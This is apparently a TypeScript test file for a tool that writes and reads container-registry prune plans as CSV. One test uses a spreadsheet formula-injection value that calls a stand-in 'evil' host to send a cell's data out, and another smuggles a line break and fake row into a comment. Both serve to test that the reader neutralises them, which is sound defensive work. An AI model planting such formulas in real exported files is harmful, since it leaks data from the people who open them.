import { deepEqual, match, rejects } from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, it } from 'node:test';

import { readPlan, writePlan, type Plan } from '../../../src/audit/prune-plan.ts';
import { digestOf } from '../../../src/image/digest.ts';
import { tempDir, type TempDir } from '../../support/temp-dir.ts';

const PLAN: Plan = {
  facts: {
    target: 't.test:5000',
    made: '2025-01-01T00:00:00.000Z',
    list: { source: 's.test', digest: digestOf(Buffer.from('list')), scope: 'namespace' },
    options: { 'target-path': 'all:{name}-{tag}', 'target-namespace': 'x', shard: '1/4' },
    mayEmpty: true,
    planned: 2,
    seen: 40,
  },
  rows: [
    {
      repository: 'a/b',
      tag: '1',
      digest: digestOf(Buffer.from('1')),
      lastUpdatedOn: '2024-01-01T00:00:00.000Z',
      action: 'delete',
      reason: 'is not in tags.csv, is 3 days old or older',
    },
    {
      repository: 'a/b',
      tag: '2',
      digest: digestOf(Buffer.from('2')),
      lastUpdatedOn: undefined,
      action: 'untag',
      reason: 'is not in tags.csv; the tag alone, as 3 is the same image',
    },
  ],
};

let dir: TempDir;
const path = (): string => join(dir.path, 'prune.csv');
beforeEach(async () => {
  dir = await tempDir();
});
afterEach(() => dir[Symbol.asyncDispose]());

describe('a plan', () => {
  it('is read as it was written', async () => {
    await writePlan(path(), PLAN, ['stays: a/b:3 is protected']);

    deepEqual(await readPlan(path()), PLAN);
  });

  it('that goes by no list says so, and is read as it was written', async () => {
    const { list: _, ...facts } = PLAN.facts;
    await writePlan(path(), { ...PLAN, facts }, []);

    match(await readFile(path(), 'utf8'), /\r\n# list: none\r\n/);
    deepEqual(await readPlan(path()), { ...PLAN, facts });
  });

  it('takes dates of others for dates or for nothing', async () => {
    const [row] = PLAN.rows;
    const evil = '=WEBSERVICE("http://evil/"&B2) Jan 1 2020';
    const rows = [evil, '=1+1'].map((lastUpdatedOn, n) =>
      Object.assign({}, row, { tag: `${n}`, lastUpdatedOn }),
    );
    await writePlan(path(), { ...PLAN, rows }, []);

    const { rows: read } = await readPlan(path());
    deepEqual(
      read.map(({ lastUpdatedOn }) => lastUpdatedOn?.slice(0, 4)),
      ['2020', undefined],
    );
  });

  it('keeps what a remark says on one line of comment', async () => {
    await writePlan(path(), PLAN, ['stays: a\r\na/b,evil,sha256:00,,delete,x']);

    deepEqual(await readPlan(path()), PLAN);
    match(await readFile(path(), 'utf8'), /# stays: a {1,2}a\/b,evil/);
  });

  it('is read after a spreadsheet has had it', async () => {
    await writePlan(path(), PLAN, []);
    const text = await readFile(path(), 'utf8');
    const lines = text
      .split('\r\n')
      .map((line) => (line.startsWith('#') ? `"${line}",,,,,` : line));
    await writeFile(path(), `\uFEFF${lines.join('\n')}`);

    deepEqual(await readPlan(path()), PLAN);
  });
});

describe('a plan', () => {
  for (const [what, change] of [
    ['without its registry', (text: string) => text.replace(/# target: .*\r\n/, '')],
    ['without its date', (text: string) => text.replace(/# made: .*\r\n/, '# made: soon\r\n')],
    ['without its list', (text: string) => text.replace(/# list: .*\r\n/, '')],
    ['without its source', (text: string) => text.replace(/# source: .*\r\n/, '')],
    ['without its scope', (text: string) => text.replace(/# scope: .*\r\n/, '')],
    ['without its count', (text: string) => text.replace(/# planned: .*\r\n/, '')],
    ['of a later form', (text: string) => text.replace('prune plan 1', 'prune plan 2')],
    ['without all of that', (text: string) => text.replaceAll(/# .*\r\n/g, '')],
  ] as const) {
    it(`is refused ${what}`, async () => {
      await writePlan(path(), PLAN, []);
      await writeFile(path(), change(await readFile(path(), 'utf8')));

      await rejects(readPlan(path()), { code: 'USAGE', message: /make it anew by prune --plan$/ });
    });
  }

  it('is refused without a column', async () => {
    await writePlan(path(), PLAN, []);
    await writeFile(path(), (await readFile(path(), 'utf8')).replace(',action,', ',what,'));

    await rejects(readPlan(path()), { code: 'USAGE', message: /has no column action/ });
  });

  it('says how to make it where there is none', async () => {
    await rejects(readPlan(path()), { code: 'USAGE', message: /make it by prune --plan first/ });
  });
});
